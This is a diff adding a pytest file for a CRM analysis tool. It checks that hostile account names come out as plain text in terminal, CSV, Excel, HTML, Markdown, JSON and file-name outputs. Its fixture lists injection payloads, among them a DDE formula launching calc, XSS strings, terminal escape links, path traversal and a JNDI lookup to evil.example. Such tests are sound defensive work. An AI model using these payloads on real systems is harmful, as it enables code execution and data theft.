@@ -1,0 +1,261 @@
+"""A name from a CRM can do nothing but be read, through whichever door it leaves."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import unicodedata
+from collections.abc import Callable, Mapping
+from datetime import date
+from html.parser import HTMLParser
+from pathlib import Path
+
+import openpyxl
+import pyarrow as pa
+import pytest
+from typer.testing import CliRunner
+
+from crm_portfolio import Portfolio, analysis, samples
+from crm_portfolio._managed import FIELDS
+from crm_portfolio.cli import app
+from crm_portfolio.protocols import Org, Quota
+from crm_portfolio.results import Result
+from crm_portfolio.schema import arrow_type
+from crm_portfolio.writeback import Plan, plan
+
+HOSTILE = {
+    "a formula": "=cmd|'/C calc'!A0",
+    "a plus": "+1+1",
+    "a minus": "-2+3+cmd",
+    "an at": "@SUM(A1)",
+    "a formula behind a tab": "\t=1+1",
+    "a formula behind a return": "\r=1+1",
+    "a formula behind a blank": " =1+1",
+    "a wide formula": "＝1+1",
+    "colour": "\x1b[31mRed\x1b[0m",
+    "a link for a terminal": "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07",
+    "an eight-bit control": "\x9b31mred",
+    "a script": "<script>alert(1)</script>",
+    "an image": '"><img src=x onerror=alert(1)>',
+    "the end of a title": "</title></table><svg/onload=alert(1)>",
+    "an entity": "&lt;script&gt;",
+    "right to left": "gpj.\u202eexe",
+    "an isolate": "\u2066a\u2069",
+    "a path": "../../etc/passwd",
+    "a path of Windows": "..\\..\\C:\\CON",
+    "lines": "two\nlines\r\nthree\u2028four\u0085five",
+    "a link of Markdown": "[x](javascript:alert(1))",
+    "a cell of Markdown": "a | b `c` **d**",
+    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} %s {0}",
+    "a null byte": "nul\x00l",
+    "a word of CSV": "NA",
+}
+FORMULA = re.compile(r"^[\s\x00-\x1f]*[=+\-@＝＋－＠|%]")
+
+
+def controls(text: str, *, allowed: str = "\n") -> set[str]:
+    unsafe = {"Cc", "Cf", "Cs", "Zl", "Zp"}
+    return {
+        c for c in text if unicodedata.category(c) in unsafe and c not in allowed
+    } - set("\u200c\u200d")
+
+
+class _Tags(HTMLParser):
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+
+class Nowhere:
+    """An org that can only be asked who it is."""
+
+    name = "salesforce"
+
+    def org(self) -> Org:
+        return Org("salesforce", "00D000000000001", True, "EUR", "Europe/Paris")
+
+    def quota(self) -> Quota | None:
+        return None
+
+    def read(self, *_: object) -> pa.Table:
+        raise AssertionError("what was pulled just now is not read again")
+
+
+def firm(name: str) -> Portfolio:
+    """A few accounts of that name; the first ten, of plain names, are larger."""
+    ids = [f"A{place:02}" for place in range(12)]
+    account = {"account_id": ids, "name": [name] * 12}
+    nothing = {
+        column: pa.nulls(12, arrow_type(field)) for column, field in FIELDS.items()
+    }
+    line = pa.table(
+        {
+            "line_id": ids,
+            "account_id": ids,
+            "booked_on": pa.array([date(2026, 1, 5)] * 12),
+            "amount": [float(100 - place) for place in range(12)],
+        }
+    )
+    return Portfolio.from_frames(
+        as_of=date(2026, 6, 30),
+        currency="EUR",
+        account=pa.table({**account, **nothing}),
+        revenue_line=line,
+    )
+
+
+def made(portfolio: Portfolio) -> tuple[list[Result], Plan]:
+    results: list[Result] = [
+        analysis.tiers(portfolio),
+        analysis.concentration(portfolio),
+    ]
+    return results, plan(results, Nowhere(), held=portfolio)  # type: ignore[arg-type]
+
+
+def terminal(folder: Path, *arguments: object) -> str:
+    book = folder / "book"
+    runner = CliRunner(env={"COLUMNS": "300", "NO_COLOR": "1"})
+    command, *more = map(str, arguments)
+    result = runner.invoke(
+        app, [command, *(m.replace("BOOK", str(book)) for m in more)]
+    )
+    assert result.exit_code == 0, (result.stdout, result.stderr)
+    return result.stdout + result.stderr
+
+
+def in_the_terminal(portfolio: Portfolio, folder: Path) -> None:
+    portfolio.save(folder / "book")
+    for arguments in (
+        ("analyse", "BOOK"),
+        ("explain", "A00", "--folder", "BOOK"),
+        ("explain", "A00", "--folder", "BOOK", "--lang", "fr"),
+    ):
+        told = terminal(folder, *arguments)
+        assert "A00" in told
+        assert controls(told) == set()
+
+
+def in_csv(portfolio: Portfolio, folder: Path) -> None:
+    portfolio.save(folder / "book")
+    for number, result in enumerate(made(portfolio)[0]):
+        file = folder / f"{number}.csv"
+        result.save(file)
+        shown = terminal(folder, "analyse", "BOOK", result.name, "--output", "csv")
+        for text in (file.read_bytes().decode("utf-8-sig"), shown):
+            rows = list(csv.reader(io.StringIO(text, newline="")))
+            assert {len(row) for row in rows} == {len(rows[0])}
+            texts = [cell for row in rows for cell in row if not _is_number(cell)]
+            assert not [cell for cell in texts if FORMULA.match(cell)]
+
+
+def _is_number(cell: str) -> bool:
+    return re.fullmatch(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", cell) is not None
+
+
+def in_a_workbook(portfolio: Portfolio, folder: Path) -> None:
+    for number, result in enumerate(made(portfolio)[0]):
+        file = folder / f"{number}.xlsx"
+        result.save(file)
+        for sheet in openpyxl.load_workbook(file):
+            for row in sheet.iter_rows():
+                assert all(cell.data_type != "f" for cell in row)
+                assert all(cell.hyperlink is None for cell in row)
+
+
+def in_html(portfolio: Portfolio, folder: Path) -> None:
+    results, proposal = made(portfolio)
+    plain_results, plain_plan = made(firm("Plain"))
+    pages = []
+    for number, (result, plain) in enumerate(zip(results, plain_results, strict=True)):
+        for each, name in ((result, "h"), (plain, "p")):
+            each.save(folder / f"{name}{number}.html")
+        pages.append([(folder / f"{n}{number}.html").read_text("utf-8") for n in "hp"])
+        pages.append([r._repr_html_() for r in (result, plain)])  # type: ignore[attr-defined]
+    pages.append(
+        [
+            proposal.to_html(names=portfolio),
+            plain_plan.to_html(names=firm("Plain")),
+        ]
+    )
+    for page, other in pages:
+        found, expected = _Tags(page), _Tags(other)
+        assert found.tags == expected.tags
+        assert found.attributes == expected.attributes
+        assert controls(page, allowed="\n\t") == set()
+
+
+def in_markdown(portfolio: Portfolio, _folder: Path) -> None:
+    told = made(portfolio)[1].to_markdown(names=portfolio)
+    plain = made(firm("Plain"))[1].to_markdown(names=firm("Plain"))
+    assert controls(told) == set()
+    assert len(told.splitlines()) == len(plain.splitlines())
+    unescaped = re.sub(r"\\.", "", told)
+    assert not re.search(r"[<>\[]", unescaped)
+    assert unescaped.count("|") == plain.count("|")
+
+
+def in_json(portfolio: Portfolio, folder: Path) -> None:
+    portfolio.save(folder / "book")
+    results, proposal = made(portfolio)
+    name = portfolio["account"]["name"][0]
+    assert json.loads(json.dumps([result.to_dict() for result in results]))
+    shown = terminal(folder, "analyse", "BOOK", "--output", "json")
+    assert json.loads(shown)
+    assert controls(shown) == set()
+    assert str(name) not in proposal.to_bytes().decode() or str(name) == "NA"
+    for line in proposal.to_bytes().splitlines():
+        json.loads(line)
+
+
+def in_file_names(portfolio: Portfolio, folder: Path) -> None:
+    portfolio.save(folder / "book")
+    results, proposal = made(portfolio)
+    for result in results:
+        for kind in ("csv", "xlsx", "html", "parquet"):
+            result.save(folder / f"{result.name}.{kind}")
+    proposal.save(folder / "plan.jsonl")
+    names = {path.name for path in folder.rglob("*")}
+    assert all(re.fullmatch(r"[A-Za-z0-9_.-]+", name) for name in names), names
+    outside = {path.name for path in folder.parent.iterdir()}
+    assert outside <= {folder.name, f"{folder.name}current"} | {
+        name for name in outside if name.startswith("test_")
+    }
+
+
+def in_an_explanation(portfolio: Portfolio, _folder: Path) -> None:
+    for result in made(portfolio)[0]:
+        for lang in ("en", "fr"):
+            assert controls(result.explain("A00", lang=lang)) == set()  # type: ignore[arg-type]
+    proposal = made(portfolio)[1]
+    assert controls(str(proposal)) == controls(repr(proposal)) == set()
+
+
+DOORS: Mapping[str, Callable[[Portfolio, Path], None]] = {
+    "terminal": in_the_terminal,
+    "CSV": in_csv,
+    "workbook": in_a_workbook,
+    "HTML": in_html,
+    "Markdown": in_markdown,
+    "JSON": in_json,
+    "file names": in_file_names,
+    "explanation": in_an_explanation,
+}
+
+
+@pytest.mark.parametrize("door", DOORS)
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_a_hostile_name_is_only_read(door: str, kind: str, tmp_path: Path) -> None:
+    DOORS[door](firm(HOSTILE[kind]), tmp_path)
+
+
+def test_the_names_of_the_sample_book_are_among_the_hostile_kinds() -> None:
+    book = samples.book(accounts=40, opportunities=250)
+    assert len(book.truths["hostile"]) >= 10
